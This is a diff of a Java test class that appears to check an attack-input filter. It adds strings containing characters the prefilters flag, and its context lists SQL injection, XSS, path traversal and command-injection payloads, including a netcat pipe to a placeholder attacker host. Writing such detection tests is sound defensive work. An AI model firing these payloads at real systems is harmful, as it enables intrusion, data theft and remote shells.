@@ -87,7 +87,9 @@ class AttackPatternsTest {
                 // values of letters, digits and - _ . , @ + only: the words that let them through
                 "@@version", "1 and @@version", "exec xp_cmdshell", "x from sqlite_master", "1 into outfile x",
                 "1 INTO DUMPFILE x", "information_schema", "1 UNION ALL SELECT 2", "document.cookie", "document . cookie",
-                "C boot.ini", "win.ini", "powershell -enc abc", "..", ".. ..", "sleep 5", "waitfor delay", "a or 1", "a and b"));
+                "C boot.ini", "win.ini", "powershell -enc abc", "..", ".. ..", "sleep 5", "waitfor delay", "a or 1", "a and b",
+                // one of each character the prefilters mark
+                "a/*'*/b", "1/*x*/or/**/1=1", "x_y@z", "a$b{c", "p|q", "u&v", "`x`", "a\\b", "a\nb", "k=v; x"));
         values.addAll(List.of("' or 1=1--", "admin'--", "1;--", "1; DROP TABLE users", "1 union/**/select 1",
                 "%27%20OR%201%3D1--", "<svg/onload=alert(1)>", "..%2f..%2fboot.ini", "....//....//etc/passwd",
                 "x;cat /etc/passwd", "127.0.0.1 | id", "a && whoami", "`id`", "x | nc evil.example 4444",
